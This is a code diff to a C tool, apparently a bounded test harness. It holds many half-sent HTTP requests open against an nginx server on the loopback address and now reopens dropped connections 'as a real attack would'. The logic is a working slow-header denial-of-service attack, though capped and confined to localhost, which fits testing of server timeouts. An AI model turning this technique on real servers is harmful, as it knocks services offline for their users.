@@ -5,9 +5,10 @@
  * Opens up to CONNECTIONS connections from SOURCE_ADDR (an address inside 127.0.0.0/8,
  * which Linux routes to lo) to 127.0.0.1:PORT, sends each a request line and one header
  * but never the blank line that ends the headers, and holds them idle for SECONDS.
- * Bounded in count (<= 20000) and time (<= 120 s); every socket is closed at the end.
- * Prints "opened N" once the connections are up and, at the end, "closed_by_server N"
- * (connections nginx dropped, e.g. after client_header_timeout). */
+ * A connection the server drops is opened again at once.  Bounded in count (<= 20000 at
+ * a time) and time (<= 120 s); every socket is closed at the end.  Prints "opened N" once
+ * the connections are up and, at the end, "closed_by_server N" (connections nginx dropped,
+ * e.g. after client_header_timeout, each then opened again). */
 #include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
@@ -115,19 +116,34 @@ int main(int argc, char **argv)
     printf("opened %d\n", established);
     fflush(stdout);
 
+    /* Hold them; a connection the server drops is opened again at once, as a real attack
+     * would, so the server never gets its connections back while the attack lasts. */
     int closed_by_server = 0;
     while (now_s() < end) {
         int left = (int)((end - now_s()) * 1000);
         if (poll(fds, (nfds_t)n, left < 500 ? left : 500) < 0 && errno != EINTR)
             break;
         for (int i = 0; i < n; i++) {
-            if (fds[i].fd >= 0 && sent[i] && (fds[i].revents & (POLLIN | POLLHUP | POLLERR))) {
-                char buf[512];
-                if (recv(fds[i].fd, buf, sizeof buf, MSG_DONTWAIT) <= 0) {
+            if (fds[i].fd < 0 || fds[i].revents == 0)
+                continue;
+            if (!sent[i]) {  /* a reopened connection is up (or failed) */
+                if (fds[i].revents & (POLLERR | POLLHUP) ||
+                    send(fds[i].fd, partial, sizeof partial - 1, MSG_NOSIGNAL) < 0) {
                     close(fds[i].fd);
                     fds[i].fd = -1;
-                    closed_by_server++;
+                } else {
+                    fds[i].events = POLLIN;
+                    sent[i] = 1;
                 }
+                continue;
+            }
+            char buf[512];
+            if (recv(fds[i].fd, buf, sizeof buf, MSG_DONTWAIT) <= 0) {
+                close(fds[i].fd);
+                closed_by_server++;
+                fds[i].fd = open_one(&src, &dst);
+                fds[i].events = POLLOUT;
+                sent[i] = 0;
             }
         }
     }
